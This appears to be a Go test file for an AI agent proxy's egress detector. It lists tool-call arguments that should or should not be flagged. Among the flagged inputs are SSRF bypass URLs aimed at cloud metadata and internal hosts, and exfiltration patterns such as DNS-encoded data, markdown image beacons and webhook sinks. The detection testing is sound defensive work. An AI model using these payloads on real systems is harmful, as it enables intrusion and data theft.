package detect_test

import (
	"testing"

	"github.com/rulewind/rulewind/proxy/detect"
)

func TestOddEgress(t *testing.T) {
	url := func(kind, u string) wants { return finds(arg("fetch", "url", u), kind, detect.Medium) }
	for _, tt := range []wants{
		url("obfuscated-address", "http://425.510.425.510/"),
		url("obfuscated-address", "http://7147006462/"),
		url("userinfo-url", `http://example.com\@169.254.169.254/`),
		url("userinfo-url", "http://foo@127.0.0.1:80@example.com/"),
		url("userinfo-url", "http://1.1.1.1 &@169.254.169.254# @3.3.3.3/"),
		url("obfuscated-address", "http://127.0.0.1%09.example.com"),
		url("private-address", "http://198.18.0.1/"),
		url("internal-name", "http://vault.svc.cluster.local:8200/"),
		url("loopback-address", "http://127.0.0.1:9222/json"),
		url("loopback-address", "https://translate.example/translate?u=http://127.0.0.1"),
		url("metadata-address", "postgres://u@169.254.169.254/x"),
		url("non-http-scheme", "data:text/html,<script>x()</script>"),
		url("data-in-url", "https://x.example/x7Kp2mQ9vR4sL8nW1bY6cT3fA0jH5dE2uG7i/status"),
		url("data-in-url", "https://x.example/?password=hunter2hunter2"),
		url("paste-or-webhook-sink", "https://discord.com/api/webhooks/1/abc"),
		url("paste-or-webhook-sink", "https://api.telegram.org/bot1:a/sendMessage?chat_id=1"),
		finds(arg("dns_lookup", "name", "4d79207365637265742070617373.x.example"), "dns-exfiltration", detect.Medium),
		finds(arg("http_request", "X-Data", "c2VjcmV0LWtleS1pcy1oZXJlLWFuZC1tb3JlLWRhdGEtZm9sbG93cw=="), "data-in-header", detect.Medium),
		finds(arg("send", "text", "![x](https://x.example/p.png?d=c2VjcmV0LWtleS1pcy1oZXJlLWFuZC1tb3Jl)"), "data-in-url", detect.Medium),
		finds(arg("html_to_pdf", "html", `<img src="http://169.254.169.254/latest/">`), "metadata-address", detect.Medium),
		finds(arg("html_to_pdf", "html", `<iframe src="file:///etc/hosts">`), "non-http-scheme", detect.Medium),
		quiet(arg("send", "text", "The server is at http://127.0.0.1:6379; ![chart](https://img.example/badge/build-passing-green)"), detect.Low),
		quiet(arg("write_file", "content", `<img src="http://localhost:3000/logo.png"> <a href="http://169.254.169.254/">x</a>`), detect.Low),
		quiet(arg("fetch", "url", "https://login.example.com/authorize?redirect_uri=http://localhost:3000/cb"), detect.Low),
		quiet(arg("fetch", "url", "https://drive.google.com/file/d/1a2B3c4D5e6F7g8H9i0JkLmNoPqRsTuVw/view"), detect.Low),
		quiet(arg("fetch", "url", "https://example.com/download/3d2f9a8b-7c6e-4d5f-8a9b-0c1d2e3f4a5b/report.pdf"), detect.Low),
		quiet(arg("fetch", "url", "https://raw.githubusercontent.com/o/r/8f3a9c1b2d4e5f60718293a4b5c6d7e8f9012345/README.md"), detect.Low),
		quiet(arg("fetch", "url", "https://discord.com/developers/docs"), detect.Low),
		quiet(arg("fetch", "url", "data:image/png;base64,iVBORw0KGgo="), detect.Low),
		quiet(arg("http_request", "User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"), detect.Low),
		quiet(arg("dns_lookup", "name", "_dmarc.mail.example.co.uk"), detect.Low),
	} {
		tt.run(t, detect.Egress)
	}
}
